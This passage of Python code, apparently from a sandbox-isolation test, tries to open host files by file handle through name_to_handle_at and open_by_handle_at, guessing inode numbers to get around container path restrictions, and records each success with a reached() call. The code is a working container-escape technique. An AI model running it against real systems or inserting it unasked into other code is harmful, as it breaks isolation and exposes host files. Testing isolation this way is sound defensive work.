# Open a file of the host by its handle, outside of any path.


class handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("id", ctypes.c_ubyte * 128)]


root = os.open("/", os.O_RDONLY)
for path in ("/", "/etc", "/tmp", "/dev/shm"):
    h, mount = handle(bytes=128), ctypes.c_int()
    for inode in (None, 2, 128, 256):
        if inode:
            h.bytes, h.type = 8, 1
            ctypes.memmove(h.id, inode.to_bytes(8, "little"), 8)
        elif libc.name_to_handle_at(root, path.encode(), ctypes.byref(h), ctypes.byref(mount), 0) < 0:
            continue
        if libc.open_by_handle_at(root, ctypes.byref(h), 0) >= 0:
            reached(f"{path} {inode}")
